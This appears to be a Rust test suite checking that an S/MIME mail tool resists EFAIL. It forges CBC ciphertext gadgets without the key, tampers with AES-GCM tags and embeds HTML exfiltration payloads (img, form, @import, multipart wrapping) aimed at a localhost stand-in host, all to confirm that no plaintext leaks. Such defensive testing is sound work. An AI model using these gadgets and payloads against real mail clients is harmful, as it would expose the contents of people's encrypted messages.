//! EFAIL (Poddebniak and others, 2018), with gadgets of our own making: nothing leaks, whatever is sealed inside.
//!
//! RFC 8551 section 6: content without authentication may be anybody's, so it comes out only where it is asked for, as text.
#![allow(clippy::indexing_slicing, clippy::unwrap_used, clippy::panic, reason = "a test may fail this way")]
mod accounts;
mod envelopes;
mod forgery;
mod hostile;
mod openssl_pki;

use accounts::Office;
use envelopes::{AES_256_CBC, AES_256_GCM, BLOCK, Envelope, Gadgets};
use forgery::{
    Hand, ID_ENVELOPED_DATA, SignedData, element, message, multipart_signed, octets, pkcs7_mime, sequence,
};
use openssl_pki::openssl;

const SECRET: &str = "the password is swordfish";
const FROM: &str = "From: alice@example.test\r\nTo: bob@example.test\r\nSubject: x\r\n";

fn clear() -> String {
    format!("Content-Type: text/plain; charset=utf-8\r\n\r\nDear Bob,\r\n\r\n{SECRET}.\r\n\r\nAlice\r\n")
}

fn signed(office: &Office) -> String {
    let alice = Hand::of(&hostile::signer(office, "alice"));
    let infos = [alice.signer_info(clear().as_bytes())];
    multipart_signed(&clear(), &SignedData::new(None, &[&alice.certificate], &infos).der())
}

/// Sealed to bob by openssl, with definite lengths.
fn sealed(office: &Office, cipher: &str, entity: &str) -> Envelope {
    office.pki.write("clear", entity.as_bytes());
    let arguments = [
        "cms",
        "-encrypt",
        "-binary",
        cipher,
        "-in",
        "clear",
        "-outform",
        "DER",
        "-out",
        "sealed.der",
        "bob-read.pem",
    ];
    openssl(office.pki.path(), &arguments);
    Envelope::read(&office.pki.read("sealed.der"))
}

fn mail(envelope: &Envelope) -> String {
    message(FROM, &pkcs7_mime(&envelope.der()))
}

/// Every changed envelope that we can think of, by name.
fn changed(envelope: &Envelope, beginning: &str) -> Vec<(String, Envelope)> {
    let gadgets = Gadgets::new(envelope, beginning);
    let original = gadgets.original();
    let mut found = Vec::new();
    let mut add = |name: String, blocks: &[[u8; BLOCK]]| found.push((name, envelope.with_blocks(blocks)));
    // HTML around the whole plaintext: noise falls into attributes that nobody reads.
    let html = |chosen: &[&str]| {
        let mut blocks: Vec<[u8; BLOCK]> = chosen.iter().flat_map(|text| gadgets.write(text)).collect();
        blocks.extend(original);
        blocks.extend(gadgets.write("\">"));
        blocks.extend(gadgets.ending());
        blocks
    };
    add(
        "an image that carries the plaintext".into(),
        &html(&[
            "Content-Type:  (",
            ") text/html\r\n\r\n ",
            "<base a=\"       ",
            "\" href=\"http:\"> ",
            "<img a=\"        ",
            "\" src=\"127.1/a/ ",
        ]),
    );
    add(
        "a form that sends the plaintext".into(),
        &html(&[
            "Content-Type:  (",
            ") text/html\r\n\r\n ",
            "<form a=\"       ",
            "\" action=//127.1",
            "<textarea a=\"",
        ]),
    );
    add(
        "a style sheet that fetches".into(),
        &html(&["Content-Type:  (", ") text/html\r\n\r\n ", "<style a=\"      ", "\">@import url( "]),
    );
    for first in ["Content-Type: te", "\r\n\r\n<b>FORGE</b>", "X-Header: hidden", "Subject: FORGED!"] {
        add(
            format!("only the vector changed: {first:?}"),
            &[&gadgets.write(first)[..], &original[2..]].concat(),
        );
    }
    let last = original.len() - 1;
    for keep in [1, 2, 3, last / 2, last - 2, last - 1] {
        add(format!("cut after {keep} blocks"), &original[..=keep]);
        add(
            format!("cut after {keep} blocks, with an end"),
            &[&original[..=keep], gadgets.ending()].concat(),
        );
    }
    for (one, other) in [(1, 2), (2, 3), (1, last), (last - 1, last)] {
        let mut blocks = original.to_vec();
        blocks.swap(one, other);
        add(format!("blocks {one} and {other} exchanged"), &blocks);
    }
    add("everything twice".into(), &[original, original].concat());
    add("a block three times".into(), &[&original[..4], &original[3..4], &original[3..]].concat());
    let mut backwards = original.to_vec();
    backwards[1..].reverse();
    add("backwards".into(), &backwards);
    add("no block at all".into(), &original[..1]);
    add("one block".into(), &[&original[..1], gadgets.ending()].concat());
    let mut torn = envelope.clone();
    torn.ciphertext.pop();
    found.push(("an octet short".into(), torn));
    found
}

/// Opens; answers what is wrong about what came out.
fn leaks(office: &Office, name: &str, text: &str, genuine: &[u8]) -> Vec<String> {
    let mut wrong = Vec::new();
    let said = office.run("bob", &["open", "--json"], text.as_bytes());
    let code = said.json()["verdict"]["code"].as_str().unwrap_or_default().to_owned();
    // What was changed behind the end of the signed part changes nothing: it is not shown.
    if code == "trusted" && said.stdout == genuine {
        return wrong;
    }
    if said.code != 4 && said.code != 1 {
        wrong.push(format!("{name}: exit {} ({code})", said.code));
    }
    if !said.stdout.is_empty() {
        wrong.push(format!("{name}: {} octets out ({code})", said.stdout.len()));
    }
    if said.stderr.contains(SECRET) {
        wrong.push(format!("{name}: the secret stands on stderr"));
    }
    if code == "trusted" || code == "unsigned" {
        wrong.push(format!("{name}: {code}"));
    }
    wrong
}

/// Nothing may come out of any, except the very octets that were signed.
fn check(office: &Office, rows: &[(String, String)], genuine: &[u8]) {
    let wrong: Vec<String> =
        rows.iter().flat_map(|(name, text)| leaks(office, name, text, genuine)).collect();
    assert!(!rows.is_empty() && wrong.is_empty(), "{} of {}:\n{}", wrong.len(), rows.len(), wrong.join("\n"));
}

#[test]
fn the_generator_writes_what_it_wants_without_the_key() {
    let office = hostile::office();
    let envelope = sealed(&office, "-aes-256-cbc", &clear());
    let gadgets = Gadgets::new(&envelope, &clear());
    let mut blocks = gadgets.write("Content-Type:  (").to_vec();
    blocks.extend(gadgets.write(") text/html\r\n\r\n "));
    blocks.extend(gadgets.write("<img src=\"//x/"));
    blocks.extend(gadgets.original());
    // openssl decrypts what was made without any key: the chosen words stand there, and so does the secret.
    office.pki.write("gadget.der", &envelope.with_blocks(&blocks).der());
    let arguments = [
        "cms",
        "-decrypt",
        "-inform",
        "DER",
        "-in",
        "gadget.der",
        "-recip",
        "bob-read.pem",
        "-inkey",
        "bob-read.key",
    ];
    let shown = String::from_utf8_lossy(&openssl(office.pki.path(), &arguments)).into_owned();
    for wanted in ["Content-Type:  (", ") text/html", "<img src=\"//x/", SECRET] {
        assert!(shown.contains(wanted), "{wanted}: {shown}");
    }
}

#[test]
fn no_gadget_brings_unsigned_plaintext_out() {
    let office = hostile::office();
    let envelope = sealed(&office, "-aes-256-cbc", &clear());
    let mut rows = vec![("unchanged".to_owned(), mail(&envelope))];
    rows.extend(changed(&envelope, &clear()).iter().map(|(name, changed)| (name.clone(), mail(changed))));
    check(&office, &rows, b"");
}

#[test]
fn no_gadget_brings_signed_plaintext_out() {
    let office = hostile::office();
    let entity = signed(&office);
    let envelope = sealed(&office, "-aes-256-cbc", &entity);
    let genuine = office.run("bob", &["open"], mail(&envelope).as_bytes()).expect(0).stdout;
    let rows: Vec<(String, String)> =
        changed(&envelope, &entity).iter().map(|(name, changed)| (name.clone(), mail(changed))).collect();
    check(&office, &rows, &genuine);
}

/// A signature of the attacker around somebody else's envelope does not turn it into the attacker's own words.
#[test]
fn a_signature_around_a_gadget_proves_nothing() {
    let office = hostile::office();
    let eve = Hand::of(&hostile::signer(&office, "eve"));
    let envelope = sealed(&office, "-aes-256-cbc", &clear());
    let rows: Vec<(String, String)> = changed(&envelope, &clear())
        .iter()
        .take(4)
        .map(|(name, changed)| {
            let entity = pkcs7_mime(&changed.der());
            let infos = [eve.signer_info(entity.as_bytes())];
            let der = SignedData::new(None, &[&eve.certificate], &infos).der();
            (name.clone(), message("From: eve@example.test\r\n", &multipart_signed(&entity, &der)))
        })
        .collect();
    check(&office, &rows, b"");
}

/// With --show-untrusted a person looks at it: as text, never as something that fetches.
#[test]
fn what_is_shown_on_request_is_no_html() {
    let office = hostile::office();
    let envelope = sealed(&office, "-aes-256-cbc", &clear());
    let (_, gadget) = changed(&envelope, &clear()).remove(0);
    let html = sealed(
        &office,
        "-aes-256-cbc",
        "Content-Type: text/html\r\n\r\n<p>Hello</p><img src=\"http://127.0.0.1/a\"><script>alert(1)</script>\r\n",
    );
    for (number, envelope) in [("1", &gadget), ("2", &html)] {
        hostile::deliver(&office, "bob", mail(envelope).as_bytes());
        for options in [&["--show-untrusted"][..], &["--show-untrusted", "--json"]] {
            let said = office.run("bob", &[&["read", number][..], options].concat(), b"").expect(4);
            // What is no HTML may speak of it; what is, loses it.
            let tags = ["<img", "<script", "alert(1)", "src="].iter().any(|tag| said.text().contains(tag));
            assert!(number == "1" || !tags, "{}", said.text());
        }
        assert!(office.run("bob", &["read", number], b"").expect(4).stdout.is_empty());
        // A filter hands it on to other programs: not as anything that they would render.
        let said = office.run("bob", &["open", "--show-untrusted"], mail(envelope).as_bytes()).expect(4);
        let header = said.text().to_ascii_lowercase();
        let header = header.split("\r\n\r\n").next().unwrap_or_default();
        assert!(!header.contains("text/html"), "{number}: {header}");
    }
}

/// The direct way: the sealed part between two parts of the attacker, who hopes that a reader joins them.
#[test]
fn a_sealed_part_is_not_mixed_with_the_parts_around_it() {
    let office = hostile::office();
    let before = "Content-Type: text/html\r\n\r\n<img src=\"http://127.0.0.1/?\r\n";
    let after = "Content-Type: text/html\r\n\r\n\">\r\n";
    for cipher in ["-aes-256-cbc", "-aes-256-gcm"] {
        let sealed = pkcs7_mime(&sealed(&office, cipher, &clear()).der());
        for kind in ["mixed", "related", "alternative", "parallel"] {
            for parts in [vec![before, &sealed, after], vec![before, &sealed], vec![&sealed, after]] {
                let parts: String = parts.iter().map(|part| format!("--mb\r\n{part}\r\n")).collect();
                let entity = format!("Content-Type: multipart/{kind}; boundary=mb\r\n\r\n{parts}--mb--\r\n");
                let said = office.run("bob", &["open", "--json"], message(FROM, &entity).as_bytes());
                let shown = said.text();
                assert!(
                    !(shown.contains(SECRET) && shown.contains("<img")),
                    "{cipher} {kind}: sealed and outer parts in one message: {shown}"
                );
                assert_ne!(said.json()["verdict"]["code"], "trusted");
            }
        }
    }
}

/// AES-GCM is AES in counter mode with a tag. Without the tag it must not open, under no other name either.
#[test]
fn authentication_cannot_be_taken_away() {
    let office = hostile::office();
    let envelope = sealed(&office, "-aes-256-gcm", &clear());
    office.run("bob", &["open"], mail(&envelope).as_bytes()).expect(0);
    let nonce = forgery::elements(&envelope.parameters)[0].clone();
    let tag = envelope.tag.clone().unwrap();
    let mut vector = forgery::contents(&nonce).to_vec();
    vector.resize(BLOCK, 0);
    let whole = envelope.ciphertext[..envelope.ciphertext.len() / BLOCK * BLOCK].to_vec();
    let cbc = Envelope {
        kind: ID_ENVELOPED_DATA,
        algorithm: AES_256_CBC,
        parameters: octets(&vector),
        ciphertext: whole,
        tag: None,
        ..envelope.clone()
    };
    let with_length = |length: u8| sequence(&[&nonce, &element(0x02, &[&[length]])]);
    let cut = |length: usize, said: u8| Envelope {
        parameters: with_length(said),
        tag: Some(tag[..length].to_vec()),
        ..envelope.clone()
    };
    let mut changed = envelope.clone();
    changed.ciphertext[20] ^= 1;
    let mut tail = envelope.clone();
    tail.ciphertext.push(0);
    let mut short = envelope.clone();
    short.ciphertext.pop();
    let mut other_nonce = vector[..12].to_vec();
    other_nonce[0] ^= 1;
    let rows: Vec<(&str, Envelope)> = vec![
        ("as AES-CBC", cbc.clone()),
        (
            "as AES-CBC in an AuthEnvelopedData",
            Envelope { kind: envelope.kind, tag: Some(tag.clone()), ..cbc },
        ),
        ("AES-GCM in an EnvelopedData", Envelope { kind: ID_ENVELOPED_DATA, tag: None, ..envelope.clone() }),
        ("a tag of 8 octets", cut(8, 8)),
        ("a tag of 4 octets", cut(4, 4)),
        ("a tag of one octet", cut(1, 1)),
        ("no tag", cut(0, 0)),
        ("12 octets of tag that are called 16", cut(12, 16)),
        ("16 octets of tag that are called 12", cut(16, 12)),
        ("8 octets of tag that are called 16", cut(8, 16)),
        ("a tag of zeros", Envelope { tag: Some(vec![0; 16]), ..envelope.clone() }),
        ("a changed octet", changed),
        ("an octet more", tail),
        ("an octet less", short),
        ("no content", Envelope { ciphertext: Vec::new(), ..envelope.clone() }),
        (
            "another nonce",
            Envelope {
                parameters: sequence(&[&octets(&other_nonce), &element(0x02, &[&[16]])]),
                ..envelope.clone()
            },
        ),
        (
            "an empty nonce",
            Envelope { parameters: sequence(&[&octets(b""), &element(0x02, &[&[16]])]), ..envelope.clone() },
        ),
        ("another cipher", Envelope { algorithm: "2.16.840.1.101.3.4.1.6", ..envelope.clone() }),
    ];
    assert_eq!(envelope.algorithm, AES_256_GCM);
    let rows: Vec<(String, String)> =
        rows.iter().map(|(name, row)| ((*name).to_owned(), mail(row))).collect();
    check(&office, &rows, b"");
}
